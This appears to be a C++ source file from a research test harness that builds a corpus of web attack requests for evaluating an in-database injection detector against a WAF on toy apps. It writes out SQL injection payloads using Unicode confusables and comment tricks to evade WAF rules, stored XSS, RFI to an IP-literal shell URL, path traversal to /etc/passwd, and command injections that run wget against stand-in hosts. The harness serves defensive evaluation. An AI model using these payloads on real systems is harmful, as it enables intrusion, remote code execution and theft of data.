@@ -1,0 +1,490 @@
+#include "attacks/corpus.h"
+
+#include "web/apps/addressbook.h"
+#include "web/apps/refbase.h"
+#include "web/apps/tickets.h"
+#include "web/apps/waspmon.h"
+#include "web/apps/zerocms.h"
+
+namespace septic::attacks {
+
+using web::Request;
+
+namespace {
+const std::string kPrime = kModifierApostrophe;   // decodes to '
+const std::string kFwEq = kFullwidthEquals;       // decodes to =
+}  // namespace
+
+std::vector<AttackCase> tickets_attacks() {
+  std::vector<AttackCase> out;
+
+  // T1 — the paper's Section II-D1 second-order attack: a Unicode
+  // apostrophe survives mysql_real_escape_string at profile creation, gets
+  // stored, and detonates when /my-ticket embeds the stored value.
+  {
+    AttackCase a;
+    a.id = "T1";
+    a.name = "second-order SQLI via U+02BC stored in profile";
+    a.category = "SQLI/2nd-order";
+    a.app = "tickets";
+    a.setup = {Request::post(
+        "/profile", {{"username", "mallory"},
+                     {"fullname", "Mal Lory"},
+                     {"defaultReserv", "ID34FG" + kPrime + "-- "},
+                     {"creditCard", "0"}})};  // attacker doesn't know the cc
+    a.attack = Request::get("/my-ticket", {{"username", "mallory"}});
+    a.waf_should_catch = false;  // both requests look benign byte-wise
+    out.push_back(std::move(a));
+  }
+
+  // T2 — first-order structural attack: the confusable quote closes the
+  // string inside the server; "-- " swallows the creditCard check.
+  {
+    AttackCase a;
+    a.id = "T2";
+    a.name = "structural SQLI via U+02BC + comment";
+    a.category = "SQLI/structural";
+    a.app = "tickets";
+    a.attack = Request::get(
+        "/ticket", {{"reservID", "ID34FG" + kPrime + "-- "},
+                    {"creditCard", "0"}});
+    a.waf_should_catch = false;  // 942440 wants an ASCII quote before "--"
+    out.push_back(std::move(a));
+  }
+
+  // T3 — the paper's syntax-mimicry attack (Figure 4), encoded so both the
+  // quote and the equals sign only materialize inside the server.
+  {
+    AttackCase a;
+    a.id = "T3";
+    a.name = "mimicry SQLI: ' AND 1=1-- with confusable quote/equals";
+    a.category = "SQLI/mimicry";
+    a.app = "tickets";
+    a.attack = Request::get(
+        "/ticket", {{"reservID", "ID34FG" + kPrime + " AND 1" + kFwEq +
+                                     "1-- "},
+                    {"creditCard", "9999"}});
+    a.waf_should_catch = false;  // tautology regex never sees ASCII "1=1"
+    out.push_back(std::move(a));
+  }
+
+  // T4 — numeric-context tautology in plain ASCII: escaping can't help an
+  // unquoted number, but the WAF's tautology rule fires.
+  {
+    AttackCase a;
+    a.id = "T4";
+    a.name = "numeric-context OR 1=1";
+    a.category = "SQLI/structural";
+    a.app = "tickets";
+    a.attack = Request::get(
+        "/ticket", {{"reservID", "ID34FG"}, {"creditCard", "0 OR 1=1"}});
+    a.waf_should_catch = true;  // CRS 942130
+    out.push_back(std::move(a));
+  }
+
+  // T5 — UNION exfiltration through the numeric context.
+  {
+    AttackCase a;
+    a.id = "T5";
+    a.name = "numeric-context UNION SELECT of profiles";
+    a.category = "SQLI/union";
+    a.app = "tickets";
+    a.attack = Request::get(
+        "/ticket",
+        {{"reservID", "ZZZZZZ"},
+         {"creditCard",
+          "0 UNION SELECT id, username, fullname, defaultReserv, 1, 1 "
+          "FROM profiles-- "}});
+    a.waf_should_catch = true;  // CRS 942190
+    out.push_back(std::move(a));
+  }
+
+  // T6 — same UNION wrapped in MySQL version-conditional comments: the WAF
+  // CRS 942500 knows the /*! trick, but the engine executing the comment
+  // body is the mismatch being demonstrated.
+  {
+    AttackCase a;
+    a.id = "T6";
+    a.name = "UNION inside /*!...*/ conditional comments";
+    a.category = "SQLI/union";
+    a.app = "tickets";
+    a.attack = Request::get(
+        "/ticket",
+        {{"reservID", "ZZZZZZ"},
+         {"creditCard",
+          "0 /*!UNION*/ /*!SELECT*/ id, username, fullname, defaultReserv, "
+          "1, 1 /*!FROM*/ profiles-- "}});
+    a.waf_should_catch = true;  // CRS 942500 (inline-comment detection)
+    out.push_back(std::move(a));
+  }
+
+  // T7 — time-based blind SQLI through the numeric context. The engine
+  // evaluates SLEEP() (without the real delay), so the query executes
+  // unprotected; the structure change is what SEPTIC flags.
+  {
+    AttackCase a;
+    a.id = "T7";
+    a.name = "blind SQLI via OR SLEEP(5)";
+    a.category = "SQLI/blind";
+    a.app = "tickets";
+    a.attack = Request::get(
+        "/ticket", {{"reservID", "ID34FG"}, {"creditCard", "0 OR SLEEP(5)"}});
+    a.waf_should_catch = true;  // CRS 942160 (sleep/benchmark)
+    out.push_back(std::move(a));
+  }
+
+  // T8 — exfiltration through an injected uncorrelated subquery: no UNION
+  // keyword pair for the WAF to anchor on, but the item stack grows a
+  // SUBQUERY arm.
+  {
+    AttackCase a;
+    a.id = "T8";
+    a.name = "subquery exfil: OR creditCard IN (SELECT ...)";
+    a.category = "SQLI/subquery";
+    a.app = "tickets";
+    a.attack = Request::get(
+        "/ticket",
+        {{"reservID", "ID34FG"},
+         {"creditCard",
+          "0 OR creditCard IN (SELECT creditCard FROM profiles)-- "}});
+    a.waf_should_catch = false;  // no "union select", no tautology literal
+    out.push_back(std::move(a));
+  }
+
+  return out;
+}
+
+std::vector<AttackCase> waspmon_attacks() {
+  std::vector<AttackCase> out;
+
+  // W1 — history leak: numeric context with confusable equals.
+  {
+    AttackCase a;
+    a.id = "W1";
+    a.name = "history leak via device_id OR 1=1 (fullwidth =)";
+    a.category = "SQLI/structural";
+    a.app = "waspmon";
+    a.attack = Request::get(
+        "/device/history",
+        {{"device_id", "1 OR 1" + kFwEq + "1"}, {"limit", "100"}});
+    a.waf_should_catch = false;
+    out.push_back(std::move(a));
+  }
+
+  // W2 — second-order tautology through the stored user note.
+  {
+    AttackCase a;
+    a.id = "W2";
+    a.name = "second-order tautology via stored note (U+02BC)";
+    a.category = "SQLI/2nd-order";
+    a.app = "waspmon";
+    a.setup = {Request::post(
+        "/user/register",
+        {{"username", "eve"},
+         {"fullname", "Eve Adversary"},
+         {"note", "fridge" + kPrime + " OR 1" + kFwEq + "1-- "}})};
+    a.attack = Request::get("/device/by-user", {{"username", "eve"}});
+    a.waf_should_catch = false;
+    out.push_back(std::move(a));
+  }
+
+  // W3 — the paper's Section II-D2 stored XSS example, verbatim.
+  {
+    AttackCase a;
+    a.id = "W3";
+    a.name = "stored XSS: <script>alert('Hello!');</script>";
+    a.category = "XSS";
+    a.app = "waspmon";
+    a.attack = Request::post(
+        "/user/register",
+        {{"username", "hello"},
+         {"fullname", "<script>alert('Hello!');</script>"},
+         {"note", "greeter"}});
+    a.waf_should_catch = true;  // CRS 941100
+    out.push_back(std::move(a));
+  }
+
+  // W4 — stored XSS with an uncommon event handler the CRS-3.0 handler
+  // enumeration misses.
+  {
+    AttackCase a;
+    a.id = "W4";
+    a.name = "stored XSS via ontoggle handler";
+    a.category = "XSS";
+    a.app = "waspmon";
+    a.attack = Request::post(
+        "/user/register",
+        {{"username", "toggler"},
+         {"fullname", "<details open ontoggle=alert(1)>x</details>"},
+         {"note", "tenant"}});
+    a.waf_should_catch = false;
+    out.push_back(std::move(a));
+  }
+
+  // W5 — RFI through a PHP stream wrapper (no URL for the WAF to see).
+  {
+    AttackCase a;
+    a.id = "W5";
+    a.name = "RFI via php://input wrapper in device api_url";
+    a.category = "RFI";
+    a.app = "waspmon";
+    a.attack = Request::post(
+        "/device/add", {{"name", "rogue"},
+                        {"type", "appliance"},
+                        {"location", "attic"},
+                        {"api_url", "php://input"}});
+    a.waf_should_catch = false;
+    out.push_back(std::move(a));
+  }
+
+  // W6 — classic RFI with an IP-literal URL (CRS 931100 territory).
+  {
+    AttackCase a;
+    a.id = "W6";
+    a.name = "RFI via http://IP/shell.php";
+    a.category = "RFI";
+    a.app = "waspmon";
+    a.attack = Request::post(
+        "/device/add", {{"name", "rogue2"},
+                        {"type", "appliance"},
+                        {"location", "attic"},
+                        {"api_url", "http://203.0.113.7/shell.php?cmd=id"}});
+    a.waf_should_catch = true;
+    out.push_back(std::move(a));
+  }
+
+  // W7 — LFI path traversal (WAF catches plain "../").
+  {
+    AttackCase a;
+    a.id = "W7";
+    a.name = "LFI traversal to /etc/passwd";
+    a.category = "LFI";
+    a.app = "waspmon";
+    a.attack = Request::post(
+        "/device/add", {{"name", "rogue3"},
+                        {"type", "appliance"},
+                        {"location", "attic"},
+                        {"api_url", "../../../../etc/passwd"}});
+    a.waf_should_catch = true;  // CRS 930100
+    out.push_back(std::move(a));
+  }
+
+  // W8 — OS command injection separated by a newline, which the
+  // metacharacter class of CRS 932100 misses.
+  {
+    AttackCase a;
+    a.id = "W8";
+    a.name = "OSCI via newline-separated wget";
+    a.category = "OSCI";
+    a.app = "waspmon";
+    a.attack = Request::post(
+        "/user/register",
+        {{"username", "pinger"},
+         {"fullname", "Ping Er"},
+         {"note", "127.0.0.1\nwget evil.example/x.sh"}});
+    a.waf_should_catch = false;
+    out.push_back(std::move(a));
+  }
+
+  // W9 — classic semicolon-separated command injection.
+  {
+    AttackCase a;
+    a.id = "W9";
+    a.name = "OSCI via '; cat /etc/passwd'";
+    a.category = "OSCI";
+    a.app = "waspmon";
+    a.attack = Request::post(
+        "/user/register",
+        {{"username", "cheeky"},
+         {"fullname", "Che Eky"},
+         {"note", "8.8.8.8; cat /etc/passwd"}});
+    a.waf_should_catch = true;  // CRS 932100
+    out.push_back(std::move(a));
+  }
+
+  // W10 — PHP object injection payload with no PHP function names.
+  {
+    AttackCase a;
+    a.id = "W10";
+    a.name = "RCE via PHP serialized object";
+    a.category = "RCE";
+    a.app = "waspmon";
+    a.attack = Request::post(
+        "/user/register",
+        {{"username", "serial"},
+         {"fullname", "Seri Al"},
+         {"note", "O:8:\"EvilUser\":1:{s:4:\"code\";s:8:\"touch /x\";}"}});
+    a.waf_should_catch = false;
+    out.push_back(std::move(a));
+  }
+
+  // W11 — eval/base64 payload (CRS 933150 catches the function call).
+  {
+    AttackCase a;
+    a.id = "W11";
+    a.name = "RCE via eval(base64_decode(...))";
+    a.category = "RCE";
+    a.app = "waspmon";
+    a.attack = Request::post(
+        "/user/register",
+        {{"username", "evaler"},
+         {"fullname", "Eva Ler"},
+         {"note", "eval(base64_decode('cGhwaW5mbygp'))"}});
+    a.waf_should_catch = true;
+    out.push_back(std::move(a));
+  }
+
+  // W12 — stored XSS, entity-encoded to survive one rendering pass. The
+  // WAF's htmlEntityDecode transformation and SEPTIC's plugin both decode,
+  // so this one is caught twice over — included to pin the decode paths.
+  {
+    AttackCase a;
+    a.id = "W12";
+    a.name = "stored XSS via HTML entities (&#60;script&#62;)";
+    a.category = "XSS";
+    a.app = "waspmon";
+    a.attack = Request::post(
+        "/user/register",
+        {{"username", "entity"},
+         {"fullname", "&#60;script&#62;alert(1)&#60;/script&#62;"},
+         {"note", "tenant"}});
+    a.waf_should_catch = true;  // CRS 941100 after htmlEntityDecode
+    out.push_back(std::move(a));
+  }
+
+  // W13 — double-percent-encoded traversal: the WAF decodes once and sees
+  // "%2e%2e%2f" (no literal "../"); the application layer decodes again.
+  {
+    AttackCase a;
+    a.id = "W13";
+    a.name = "LFI via double-encoded %252e%252e%252f traversal";
+    a.category = "LFI";
+    a.app = "waspmon";
+    a.attack = Request::post(
+        "/device/add",
+        {{"name", "rogue4"},
+         {"type", "appliance"},
+         {"location", "attic"},
+         {"api_url",
+          "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"}});
+    a.waf_should_catch = false;  // one urlDecode layer is not enough
+    out.push_back(std::move(a));
+  }
+
+  // W14 — command substitution $(...) form of OSCI.
+  {
+    AttackCase a;
+    a.id = "W14";
+    a.name = "OSCI via $(wget ...) substitution";
+    a.category = "OSCI";
+    a.app = "waspmon";
+    a.attack = Request::post(
+        "/user/register",
+        {{"username", "subst"},
+         {"fullname", "Sub St"},
+         {"note", "$(wget http://203.0.113.9/x)"}});
+    a.waf_should_catch = true;  // CRS 932100 covers $(wget
+    out.push_back(std::move(a));
+  }
+
+  return out;
+}
+
+std::vector<AttackCase> all_attacks() {
+  std::vector<AttackCase> out = tickets_attacks();
+  for (auto& a : waspmon_attacks()) out.push_back(std::move(a));
+  return out;
+}
+
+std::vector<Request> benign_probes(const std::string& app) {
+  if (app == "tickets") {
+    return {
+        Request::get("/ticket",
+                     {{"reservID", "ID34FG"}, {"creditCard", "1234"}}),
+        // An apostrophe in honest data: correctly escaped, must pass.
+        Request::post("/profile", {{"username", "obrien"},
+                                   {"fullname", "Conan O'Brien"},
+                                   {"defaultReserv", "KJ92MN"},
+                                   {"creditCard", "9012"}}),
+        Request::get("/my-ticket", {{"username", "alice"}}),
+        Request::get("/flights"),
+        // Dashes in data (not a comment at the DB: inside quotes).
+        Request::post("/profile", {{"username", "doubledash"},
+                                   {"fullname", "Smith--Jones"},
+                                   {"defaultReserv", "QX81Zx"},
+                                   {"creditCard", "5678"}}),
+    };
+  }
+  return {
+      Request::get("/devices"),
+      Request::get("/device/search", {{"name", "AC/DC unit"}}),
+      // '<' in honest data exercises the XSS plugin's quick->deep path.
+      Request::post("/user/register", {{"username", "frugal"},
+                                       {"fullname", "Fru Gal"},
+                                       {"note", "budget <= 100 EUR"}}),
+      Request::post("/reading/add", {{"device_id", "2"}, {"watts", "640.25"}}),
+      Request::get("/device/history", {{"device_id", "3"}, {"limit", "7"}}),
+      Request::post("/device/add", {{"name", "washer-dryer"},
+                                    {"type", "appliance"},
+                                    {"location", "bathroom"},
+                                    {"api_url", "http://device.local/wd"}}),
+      Request::get("/device/by-user", {{"username", "admin"}}),
+  };
+}
+
+std::vector<Request> random_benign_requests(const std::string& app,
+                                            uint64_t seed, size_t count) {
+  // Local xorshift so results are deterministic across platforms.
+  auto next = [state = seed ? seed : 0x9e3779b9ull]() mutable {
+    state ^= state << 13;
+    state ^= state >> 7;
+    state ^= state << 17;
+    return state;
+  };
+  static constexpr char kAlpha[] =
+      "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ ._-";
+  auto rand_word = [&](size_t len) {
+    std::string w;
+    for (size_t i = 0; i < len; ++i) {
+      w += kAlpha[next() % (sizeof(kAlpha) - 1)];
+    }
+    return w;
+  };
+  auto rand_num = [&](int64_t max) { return std::to_string(next() % max); };
+
+  std::unique_ptr<web::App> app_obj;
+  if (app == "tickets") {
+    app_obj = std::make_unique<web::apps::TicketsApp>();
+  } else if (app == "waspmon") {
+    app_obj = std::make_unique<web::apps::WaspMonApp>();
+  } else if (app == "addressbook") {
+    app_obj = std::make_unique<web::apps::AddressBookApp>();
+  } else if (app == "refbase") {
+    app_obj = std::make_unique<web::apps::RefbaseApp>();
+  } else {
+    app_obj = std::make_unique<web::apps::ZeroCmsApp>();
+  }
+  std::vector<web::FormSpec> forms = app_obj->forms();
+
+  std::vector<Request> out;
+  out.reserve(count);
+  for (size_t i = 0; i < count && !forms.empty(); ++i) {
+    const web::FormSpec& form = forms[i % forms.size()];
+    Request r;
+    r.method = form.method;
+    r.path = form.path;
+    for (const auto& field : form.fields) {
+      // Numeric-looking samples stay numeric (the apps embed them in
+      // numeric contexts); everything else becomes a random word.
+      bool numeric = !field.sample.empty() &&
+                     field.sample.find_first_not_of("0123456789.+") ==
+                         std::string::npos;
+      r.params[field.name] =
+          numeric ? rand_num(500) : rand_word(4 + next() % 12);
+    }
+    out.push_back(std::move(r));
+  }
+  return out;
+}
+
+}  // namespace septic::attacks
